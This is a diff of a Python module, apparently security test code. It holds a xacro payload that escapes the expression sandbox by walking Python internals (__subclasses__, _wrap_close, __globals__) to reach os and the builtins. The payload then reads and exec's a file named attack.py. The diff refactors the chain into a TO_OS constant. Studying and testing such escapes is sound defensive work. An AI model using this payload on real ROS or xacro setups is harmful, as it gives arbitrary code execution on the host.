@@ -24,13 +24,16 @@ from __future__ import annotations
 from pathlib import Path
 
 HEAD = '<robot name="r" xmlns:xacro="http://www.ros.org/wiki/xacro">'
-_ESCAPE = """\
+# From the dictionary of a class to what the module `os` holds.
+TO_OS = """\
 <xacro:property name="T" value="${python.vars(python.type)}"/>
 <xacro:property name="subs" value="${T['__subclasses__'](python.type.mro(int)[-1])}"/>
 <xacro:property name="wrap" value="${[c for c in subs if '_wrap_close' in str(c)][0]}"/>
 <xacro:property name="fn" value="${python.vars(wrap)['__init__']}"/>
 <xacro:property name="gd" value="${python.vars(python.type(fn))['__globals__']}"/>
 <xacro:property name="os" value="${python.vars(python.type(gd))['__get__'](gd, fn)}"/>
+"""
+_ESCAPE = TO_OS + """\
 <xacro:property name="b" value="${os['__builtins__']}"/>
 <xacro:property name="code" value="${b['open']('attack.py').read()}"/>
 <link name="${[b['exec'](code, n) or n['told'] for n in [b['dict']([('__builtins__', b)])]][0]}"/>
